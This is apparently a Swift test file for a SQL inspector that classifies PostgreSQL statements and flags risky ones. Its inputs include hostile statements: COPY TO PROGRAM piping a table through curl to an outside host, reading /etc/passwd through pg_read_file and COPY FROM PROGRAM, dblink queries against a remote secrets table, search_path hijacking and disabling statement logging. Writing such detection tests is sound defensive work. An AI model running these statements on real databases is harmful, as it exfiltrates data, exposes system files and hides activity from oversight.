import SQLInspection
import Testing

/// What statements are: kinds, writes, relations with their access, functions, flags.
@Suite("SQL inspector: classifying statements")
struct ClassificationTests {
    // MARK: Reads and writes

    @Test func aPlainSelectReads() {
        let statement = only("SELECT a, b FROM s.t JOIN u ON u.id = t.id WHERE a > 1")
        #expect(statement.kind == .select)
        #expect(!statement.writes)
        #expect(statement.relations == [read("t", schema: "s"), read("u")])
        #expect(statement.flags.isEmpty)
    }

    @Test func threePartNamesKeepTheirCatalog() {
        let statement = only("SELECT * FROM db.s.t")
        #expect(statement.relations.map(\.relation) == [SQLRelation(catalog: "db", schema: "s", name: "t")])
        #expect(statement.relations.first?.relation.qualifiedName == "db.s.t")
    }

    @Test func insertSelectWritesTheTargetAndReadsTheSource() {
        let statement = only("INSERT INTO a.b (x) SELECT x FROM c WHERE x IN (SELECT y FROM d.e)")
        #expect(statement.kind == .insert)
        #expect(statement.writes)
        #expect(statement.relations == [written("b", schema: "a"), read("c"), read("e", schema: "d")])
        #expect(statement.relationsWritten == [table("b", schema: "a")])
    }

    @Test func aRelationBothReadAndWrittenAppearsTwice() {
        let statement = only("UPDATE t SET n = (SELECT max(n) FROM t) + 1 WHERE id = 1")
        #expect(statement.relations == [written("t"), read("t")])
    }

    @Test func deleteWithoutWhereIsFlagged() {
        let statement = only("DELETE FROM t")
        #expect(statement.kind == .delete)
        #expect(statement.flags.contains(.updateOrDeleteWithoutWhere))
        #expect(statement.relations == [written("t")])
    }

    @Test func updateWithoutWhereIsFlaggedEvenWithFrom() {
        #expect(only("UPDATE t SET a = 1").flags.contains(.updateOrDeleteWithoutWhere))
        #expect(only("UPDATE t SET a = u.a FROM u").flags.contains(.updateOrDeleteWithoutWhere))
    }

    @Test func deleteOrUpdateWithWhereIsNotFlagged() {
        #expect(!only("DELETE FROM t WHERE id = 1").flags.contains(.updateOrDeleteWithoutWhere))
        #expect(!only("UPDATE t SET a = 1 WHERE id = 1").flags.contains(.updateOrDeleteWithoutWhere))
        #expect(only("DELETE FROM t WHERE id = 1").flags.isEmpty)
    }

    @Test func mergeWritesItsTargetAndReadsItsSource() {
        let statement = only("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (s.id)")
        #expect(statement.kind == .merge)
        #expect(statement.relations == [written("t"), read("s")])
    }

    @Test func truncateWritesEveryTable() {
        let statement = only("TRUNCATE a, s.b RESTART IDENTITY")
        #expect(statement.kind == .truncate)
        #expect(statement.writes)
        #expect(statement.relations == [written("a"), written("b", schema: "s")])
    }

    @Test func selectIntoCreatesATable() {
        let statement = only("SELECT * INTO copy_of_t FROM t")
        #expect(statement.kind == .create)
        #expect(statement.writes)
        #expect(statement.relations == [written("copy_of_t"), read("t")])
    }

    @Test func selectForUpdateLocksRows() {
        let statement = only("SELECT * FROM t WHERE id = 1 FOR UPDATE")
        #expect(statement.kind == .select)
        #expect(statement.flags.contains(.locksRows))
        #expect(statement.writes)
    }

    // MARK: WITH

    @Test func aDeletingWithQueryMakesTheSelectADelete() {
        let statement = only("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x")
        #expect(statement.kind == .delete)
        #expect(statement.writes)
        #expect(statement.relations == [written("t")])
        #expect(statement.flags.contains(.nestedDataModification))
        #expect(statement.flags.contains(.updateOrDeleteWithoutWhere))
    }

    @Test func dataModifyingWithQueriesAreFoundWhereverTheyAreNested() {
        let inSubquery = only("SELECT * FROM (WITH d AS (UPDATE t SET a = 1 WHERE b RETURNING *) SELECT * FROM d) AS s")
        #expect(inSubquery.kind == .update)
        #expect(inSubquery.relations == [written("t")])
        let inWhere = only("SELECT 1 WHERE EXISTS (WITH i AS (INSERT INTO log VALUES (1) RETURNING 1) SELECT * FROM i)")
        #expect(inWhere.kind == .insert)
        #expect(inWhere.relationsWritten == [table("log")])
        let inAnotherWithQuery = only("""
            WITH outer_q AS (WITH inner_q AS (DELETE FROM t WHERE id = 1 RETURNING id) SELECT id FROM inner_q)
            SELECT * FROM outer_q
            """)
        #expect(inAnotherWithQuery.kind == .delete)
        #expect(inAnotherWithQuery.relations == [written("t")])
    }

    @Test func theMostDestructiveModificationNamesTheKind() {
        let statement = only("WITH d AS (DELETE FROM a RETURNING *) INSERT INTO b SELECT * FROM d")
        #expect(statement.kind == .delete)
        #expect(statement.relations == [written("a"), written("b")])
    }

    @Test func readOnlyWithQueriesAreNotRelations() {
        let statement = only("WITH recent AS (SELECT * FROM orders WHERE day > now() - interval '1 day') SELECT * FROM recent")
        #expect(statement.kind == .select)
        #expect(!statement.writes)
        #expect(statement.relations == [read("orders")])
        #expect(statement.flags.isEmpty)
    }

    @Test func withQueryNamesFollowPostgresVisibility() {
        // Without RECURSIVE a WITH query sees only earlier ones: `b` inside `a` is a table.
        let later = only("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b")
        #expect(later.relations == [read("b")])
        // A schema-qualified name is never a WITH query.
        let qualified = only("WITH t AS (SELECT 1) SELECT * FROM public.t, t")
        #expect(qualified.relations == [read("t", schema: "public")])
        // RECURSIVE: the query sees itself.
        let recursive = only("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r")
        #expect(recursive.relations.isEmpty)
        // A WITH query's name does not leak out of the parentheses that define it.
        let scoped = only("SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, x")
        #expect(scoped.relations == [read("x")])
    }

    @Test func aTargetNamedLikeAWithQueryIsStillATable() {
        let statement = only("WITH t AS (SELECT 1 AS a) INSERT INTO t SELECT a FROM t")
        #expect(statement.relations == [written("t")])
    }

    // MARK: EXPLAIN

    @Test func explainAnalyzeRunsItsStatement() {
        let statement = only("EXPLAIN ANALYZE DELETE FROM t WHERE id = 1")
        #expect(statement.kind == .explainAnalyze)
        #expect(statement.writes)
        #expect(statement.relations == [written("t")])
        #expect(statement.innerStatement?.kind == .delete)
        let parenthesized = only("EXPLAIN (FORMAT JSON, ANALYZE) UPDATE t SET a = 1")
        #expect(parenthesized.kind == .explainAnalyze)
        #expect(parenthesized.flags.contains(.updateOrDeleteWithoutWhere))
    }

    @Test func explainWithoutAnalyzeRunsNothing() {
        let statement = only("EXPLAIN DELETE FROM t")
        #expect(statement.kind == .explain)
        #expect(!statement.writes)
        #expect(statement.relations == [read("t")])
        #expect(statement.flags.isEmpty)
        #expect(statement.innerStatement?.kind == .delete)
        #expect(statement.innerStatement?.writes == true)
        #expect(only("EXPLAIN (ANALYZE false) DELETE FROM t").kind == .explain)
        #expect(only("EXPLAIN (ANALYZE off, COSTS on) DELETE FROM t").kind == .explain)
        #expect(only("EXPLAIN (ANALYZE 0) DELETE FROM t").kind == .explain)
        #expect(only("EXPLAIN (ANALYZE on) DELETE FROM t").kind == .explainAnalyze)
    }

    @Test func explainAnalyzeOfASelectReads() {
        let statement = only("EXPLAIN ANALYZE SELECT * FROM t")
        #expect(statement.kind == .explainAnalyze)
        #expect(!statement.writes)
        #expect(statement.relations == [read("t")])
    }

    // MARK: COPY

    @Test func copyToProgramRunsAShellCommand() {
        let statement = only("COPY t TO PROGRAM 'curl -d @- https://example.com'")
        #expect(statement.kind == .copyProgram)
        #expect(statement.flags.contains(.copyToProgram))
        #expect(!statement.flags.contains(.copyFromProgram))
        #expect(statement.writes)
        let from = only("COPY t FROM PROGRAM 'cat /etc/passwd'")
        #expect(from.kind == .copyProgram)
        #expect(from.flags.contains(.copyFromProgram))
        #expect(from.relations == [written("t")])
    }

    @Test func copyToAServerFileWritesThatFile() {
        let statement = only("COPY t TO '/tmp/f'")
        #expect(statement.kind == .copyTo)
        #expect(statement.flags == [.serverFileAccess])
        #expect(statement.writes)
        #expect(statement.relations == [read("t")])
    }

    @Test func copyFromAServerFileImportsIntoTheTable() {
        let statement = only("COPY s.t (a, b) FROM '/var/lib/data.csv' WITH (FORMAT csv)")
        #expect(statement.kind == .copyFrom)
        #expect(statement.flags == [.serverFileAccess])
        #expect(statement.relations == [written("t", schema: "s")])
    }

    @Test func copyToStdoutIsAnExportWithoutFiles() {
        let statement = only("COPY t TO STDOUT WITH (FORMAT csv, HEADER)")
        #expect(statement.kind == .copyTo)
        #expect(statement.flags.isEmpty)
        #expect(!statement.writes)
        #expect(statement.relations == [read("t")])
    }

    @Test func copyFromStdinImports() {
        let statement = only("COPY t FROM STDIN")
        #expect(statement.kind == .copyFrom)
        #expect(statement.flags.isEmpty)
        #expect(statement.writes)
        #expect(statement.relations == [written("t")])
    }

    @Test func copyOfAQueryReadsTheQuerysRelations() {
        let statement = only("COPY (SELECT a FROM s.t JOIN u USING (id)) TO STDOUT")
        #expect(statement.kind == .copyTo)
        #expect(!statement.writes)
        #expect(statement.relations == [read("t", schema: "s"), read("u")])
    }

    @Test func copyOfADeleteWrites() {
        let statement = only("COPY (DELETE FROM t RETURNING *) TO STDOUT")
        #expect(statement.kind == .copyTo)
        #expect(statement.writes)
        #expect(statement.flags.contains(.nestedDataModification))
        #expect(statement.relations == [written("t")])
    }

    // MARK: Code whose effect is not in the text

    @Test func doBlocksAreOpaqueAndWrite() {
        let statement = only("DO $$ BEGIN EXECUTE 'DROP TABLE ' || 't'; END $$")
        #expect(statement.kind == .doBlock)
        #expect(statement.writes)
        #expect(statement.flags.contains(.dynamicSQL))
        #expect(only("DO LANGUAGE plpgsql 'BEGIN NULL; END'").kind == .doBlock)
    }

    @Test func callNamesTheProcedure() {
        let statement = only("CALL p()")
        #expect(statement.kind == .call)
        #expect(statement.writes)
        #expect(statement.functions == ["p"])
        let qualified = only("CALL Ops.Rotate(pg_read_file('/etc/passwd'))")
        #expect(qualified.functions == ["ops.rotate", "pg_read_file"])
        #expect(qualified.flags.contains(.serverFileAccess))
    }

    @Test func prepareReportsWhatItPrepares() {
        let statement = only("PREPARE p AS DELETE FROM t")
        #expect(statement.kind == .prepare)
        #expect(statement.objectName == "p")
        #expect(statement.writes)
        #expect(statement.relations == [written("t")])
        #expect(statement.innerStatement?.kind == .delete)
        #expect(statement.flags.contains(.updateOrDeleteWithoutWhere))
        let select = only("PREPARE q (int) AS SELECT * FROM t WHERE id = $1")
        #expect(select.kind == .prepare)
        #expect(!select.writes)
        #expect(select.innerStatement?.kind == .select)
    }

    @Test func executeIsLeftToTheCallerToMap() {
        let statement = only("EXECUTE p")
        #expect(statement.kind == .execute)
        #expect(statement.objectName == "p")
        #expect(statement.writes)
        let withArguments = only("EXECUTE p(1, pg_read_file('/etc/passwd'))")
        #expect(withArguments.functions == ["pg_read_file"])
        #expect(withArguments.flags.contains(.serverFileAccess))
        let deallocate = only("DEALLOCATE p")
        #expect(deallocate.kind == .deallocate)
        #expect(deallocate.objectName == "p")
        #expect(!deallocate.writes)
        #expect(only("DEALLOCATE ALL").objectName == nil)
    }

    @Test func cursorsReportTheirQuery() {
        let declare = only("DECLARE c CURSOR FOR SELECT * FROM t")
        #expect(declare.kind == .cursor)
        #expect(declare.objectName == "c")
        #expect(declare.relations == [read("t")])
        #expect(!declare.writes)
        #expect(only("FETCH 10 FROM c").kind == .cursor)
        #expect(only("CLOSE c").objectName == "c")
    }

    // MARK: Settings and roles

    @Test func setChangesConfiguration() {
        let statement = only("SET search_path TO evil, public")
        #expect(statement.kind == .setConfiguration)
        #expect(statement.flags == [.setsConfiguration])
        #expect(!statement.writes)
        #expect(only("RESET work_mem").flags == [.setsConfiguration])
        #expect(only("SHOW search_path").kind == .showConfiguration)
        #expect(only("SHOW search_path").flags.isEmpty)
    }

    @Test(arguments: [
        "SET ROLE admin", "SET LOCAL ROLE admin", "RESET ROLE", "SET SESSION AUTHORIZATION admin",
        "SET SESSION AUTHORIZATION DEFAULT", "RESET ALL", "set role = 'admin'",
    ])
    func identityChangesAreFlagged(sql: String) {
        let statement = only(sql)
        #expect(statement.kind == .setConfiguration)
        #expect(statement.flags.contains(.changesRole))
    }

    @Test func setConfigIsASettingChangeAndDangerous() {
        let statement = only("SELECT set_config('search_path', 'evil', false)")
        #expect(statement.kind == .select)
        #expect(statement.flags == [.setsConfiguration, .dangerousFunction])
        #expect(statement.dangerousFunctions == ["set_config"])
        #expect(only("SELECT pg_catalog.set_config('ROLE', 'admin', false)").flags.contains(.changesRole))
        // A setting named by an expression could be any setting.
        #expect(only("SELECT set_config(name, 'x', false) FROM my_settings").flags.contains(.changesRole))
    }

    @Test func updatingPgSettingsIsSet() {
        let statement = only("UPDATE pg_settings SET setting = 'evil' WHERE name = 'search_path'")
        #expect(statement.flags.contains(.setsConfiguration))
    }

    @Test func transactionControl() {
        for sql in ["BEGIN", "START TRANSACTION", "COMMIT", "ROLLBACK", "SAVEPOINT s", "RELEASE SAVEPOINT s", "ROLLBACK TO s", "END"] {
            let statement = only(sql)
            #expect(statement.kind == .transaction, "\(sql)")
            #expect(!statement.writes, "\(sql)")
            #expect(statement.flags.isEmpty, "\(sql)")
        }
        #expect(only("BEGIN ISOLATION LEVEL SERIALIZABLE, READ WRITE").flags == [.setsConfiguration])
        #expect(only("COMMIT PREPARED 'other-session'").writes)
    }

    // MARK: Functions

    @Test func serverFileFunctionsAreFlagged() {
        let statement = only("SELECT pg_read_file('/etc/passwd')")
        #expect(statement.kind == .select)
        #expect(statement.functions == ["pg_read_file"])
        #expect(statement.dangerousFunctions == ["pg_read_file"])
        #expect(statement.flags == [.serverFileAccess, .dangerousFunction])
        #expect(!statement.writes)
        let export = only("SELECT lo_export(42, '/tmp/x')")
        #expect(export.flags.contains(.serverFileAccess))
        #expect(export.writes)
    }

    @Test func dblinkRunsSQLElsewhere() {
        let statement = only("SELECT * FROM dblink('host=other', 'SELECT secret FROM vault') AS v(secret text)")
        #expect(statement.functions == ["dblink"])
        #expect(statement.dangerousFunctions == ["dblink"])
        #expect(statement.flags.contains(.dynamicSQL))
        #expect(statement.flags.contains(.dangerousFunction))
        #expect(statement.writes)
        let exec = only("SELECT public.dblink_exec('host=other', 'DROP TABLE t')")
        #expect(exec.dangerousFunctions == ["public.dblink_exec"])
        #expect(exec.flags.contains(.dynamicSQL))
    }

    @Test func functionsAreFoundAnywhereInTheTree() {
        let statement = only("""
            SELECT upper(name) FROM t
            WHERE id = (SELECT max(id) FROM u WHERE lo_import('/etc/passwd') > 0)
            ORDER BY coalesce(pg_catalog.lower(name), '')
            """)
        #expect(statement.functions == ["upper", "max", "lo_import", "pg_catalog.lower"])
        #expect(statement.relations == [read("t"), read("u")])
        #expect(statement.flags.contains(.serverFileAccess))
        #expect(statement.writes)
        let inValues = only("INSERT INTO t VALUES (1, query_to_xml('SELECT * FROM secrets', true, false, ''))")
        #expect(inValues.functions == ["query_to_xml"])
        #expect(inValues.flags.contains(.dynamicSQL))
    }

    @Test func functionsAreListedOnceInOrderAndLowerCased() {
        let statement = only("SELECT COUNT(*), Count(a), NOW(), \"MyFunc\"(1) FROM t")
        #expect(statement.functions == ["count", "now", "myfunc"])
        #expect(statement.dangerousFunctions.isEmpty)
    }

    @Test func sequenceFunctionsWrite() {
        let statement = only("SELECT nextval('order_ids')")
        #expect(statement.kind == .select)
        #expect(statement.writes)
    }

    // MARK: Definitions, privileges, maintenance

    @Test func alterTableWritesTheTable() {
        let statement = only("ALTER TABLE s.t ADD COLUMN c int")
        #expect(statement.kind == .alter)
        #expect(statement.writes)
        #expect(statement.relations == [written("t", schema: "s")])
    }

    @Test func dropNamesTheRelationsItDrops() {
        let statement = only("DROP TABLE IF EXISTS a, s.b CASCADE")
        #expect(statement.kind == .drop)
        #expect(statement.relations == [written("a"), written("b", schema: "s")])
        #expect(only("DROP FUNCTION f(int)").kind == .drop)
        #expect(only("DROP SCHEMA s CASCADE").writes)
    }

    @Test func createKinds() {
        let view = only("CREATE VIEW v AS SELECT * FROM secrets")
        #expect(view.kind == .create)
        #expect(view.relations == [written("v"), read("secrets")])
        let tableAs = only("CREATE TABLE c AS SELECT * FROM t")
        #expect(tableAs.kind == .create)
        #expect(tableAs.relations == [written("c"), read("t")])
        #expect(only("CREATE INDEX i ON t (a)").relations == [written("t")])
        #expect(only("CREATE EXTENSION dblink").kind == .create)
        #expect(only("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'").kind == .create)
        #expect(only("CREATE ROLE r SUPERUSER").kind == .create)
        // Definitions inside CREATE SCHEMA write what they define.
        let schema = only("CREATE SCHEMA s CREATE TABLE t (a int) CREATE VIEW v AS SELECT * FROM x")
        #expect(schema.relations == [written("t"), written("v"), read("x")])
    }

    @Test func grantAndRevokeChangePrivileges() {
        let grant = only("GRANT SELECT ON t TO agent")
        #expect(grant.kind == .grant)
        #expect(grant.writes)
        #expect(grant.relations == [written("t")])
        #expect(only("REVOKE ALL ON s.t FROM PUBLIC").kind == .grant)
        #expect(only("GRANT admin TO agent").kind == .grant)
        #expect(only("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO agent").kind == .grant)
    }

    @Test func alterSystemChangesServerSettings() {
        let statement = only("ALTER SYSTEM SET log_statement = 'none'")
        #expect(statement.kind == .alter)
        #expect(statement.flags.contains(.setsConfiguration))
        #expect(only("ALTER ROLE agent SET search_path = evil").flags.contains(.setsConfiguration))
    }

    @Test func lockAccessDependsOnTheMode() {
        let share = only("LOCK TABLE t IN ACCESS SHARE MODE")
        #expect(share.kind == .lock)
        #expect(share.relations == [read("t")])
        #expect(!share.writes)
        let exclusive = only("LOCK t")
        #expect(exclusive.relations == [written("t")])
        #expect(exclusive.writes)
    }

    @Test func maintenanceStatements() {
        let vacuum = only("VACUUM FULL t, s.u")
        #expect(vacuum.kind == .maintenance)
        #expect(vacuum.relations == [written("t"), written("u", schema: "s")])
        for sql in ["ANALYZE", "CLUSTER t USING i", "REINDEX TABLE t", "REFRESH MATERIALIZED VIEW m", "CHECKPOINT"] {
            #expect(only(sql).kind == .maintenance, "\(sql)")
            #expect(only(sql).writes, "\(sql)")
        }
    }

    @Test func notificationsAndUtilities() {
        #expect(only("LISTEN jobs").kind == .notification)
        #expect(!only("LISTEN jobs").writes)
        #expect(only("NOTIFY jobs, 'run'").writes)
        let load = only("LOAD 'plugin'")
        #expect(load.kind == .utility)
        #expect(load.flags.contains(.serverFileAccess))
        #expect(only("DISCARD ALL").flags.contains(.changesRole))
        #expect(only("DISCARD PLANS").flags.isEmpty)
    }

    @Test func everyKindButUnknownIsReachable() {
        // Guards the mapping: a kind no statement produces is a kind a policy can never see.
        let samples = [
            "SELECT 1", "INSERT INTO t VALUES (1)", "UPDATE t SET a = 1 WHERE b", "DELETE FROM t WHERE a",
            "MERGE INTO t USING s ON true WHEN MATCHED THEN DO NOTHING", "CREATE TABLE t (a int)",
            "ALTER TABLE t RENAME TO u", "DROP VIEW v", "TRUNCATE t", "COPY t TO STDOUT", "COPY t FROM STDIN",
            "COPY t TO PROGRAM 'x'", "BEGIN", "SET a.b = 1", "SHOW ALL", "EXPLAIN SELECT 1",
            "EXPLAIN ANALYZE SELECT 1", "PREPARE p AS SELECT 1", "EXECUTE p", "DEALLOCATE p", "DO 'BEGIN END'",
            "CALL p()", "GRANT SELECT ON t TO u", "LOCK t", "VACUUM", "LISTEN x", "CLOSE ALL", "DISCARD TEMP",
        ]
        let kinds = Set(samples.map { only($0).kind })
        #expect(kinds == Set(SQLStatementKind.allCases).subtracting([.unknown]))
    }
}
